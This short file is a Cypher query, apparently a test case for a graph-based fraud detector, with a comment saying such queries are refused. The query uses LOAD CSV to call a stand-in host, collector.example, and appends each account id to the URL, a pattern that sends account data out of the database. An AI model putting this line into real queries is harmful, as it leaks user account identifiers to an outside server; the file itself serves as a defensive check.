// refused: LOAD is not for detectors
MATCH (a:Account) LOAD CSV FROM 'http://collector.example/?' + a.id AS line
RETURN line[0] AS key, 'IpAddress' AS type, 'payment' AS facet, [a] AS members
